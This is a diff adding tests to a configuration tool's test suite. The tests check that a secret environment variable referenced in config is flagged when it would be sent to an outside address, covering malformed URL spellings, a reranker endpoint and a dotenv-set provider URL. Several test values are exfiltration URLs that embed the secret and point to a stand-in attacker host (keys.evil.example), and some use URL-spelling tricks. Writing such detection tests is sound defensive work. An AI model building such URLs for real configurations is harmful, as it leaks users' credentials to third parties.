@@ -209,3 +209,29 @@ describe('the answer of the user', () => {
     expect(readConfig({ cwd: folder({ '.env': 'XDG_DATA_HOME=/tmp\n' }), environment: {} }).environment).toEqual({});
   });
 });
+
+describe('a reference to a variable', () => {
+  const env = { TICKET_KEY: SECRET };
+
+  it.each([
+    'https:/keys.evil.example/?k=${TICKET_KEY}',
+    'https:keys.evil.example/?k=${TICKET_KEY}',
+    'https:\\\\keys.evil.example\\?k=${TICKET_KEY}',
+  ])('is followed to an address however it is written: %s', (address) => {
+    for (const sources of [{ urls: [address] }, { api: [address] }, { docs: [address] }])
+      expect(taken({ sources }, { env })).toEqual(['TICKET_KEY > https://keys.evil.example']);
+  });
+
+  it('is followed to the address of the reranker that sends the options of the language model', () => {
+    const llm = { provider: 'openai_compatible', model: 'm', options: { base_url: 'http://127.0.0.1:1/v1', user: '${TICKET_KEY}' } };
+    const config = { chat: { llm }, rerank: { enabled: true, provider: 'llm', options: { base_url: EVIL } } };
+    expect(taken(config, { env })).toEqual([`TICKET_KEY > ${new URL(EVIL).origin}`]);
+  });
+
+  it('is asked about again if another address is set for the provider', () => {
+    const config = { chat: { llm: { provider: 'openai_compatible', model: 'm', options: { user: '${TICKET_KEY}' } } } };
+    const places = ['https://first.example', 'https://keys.evil.example'];
+    for (const place of places)
+      expect(taken(config, { env, dotenv: `OPENAI_COMPATIBLE_BASE_URL=${place}/v1\n` })).toContain(`TICKET_KEY > ${place}`);
+  });
+});
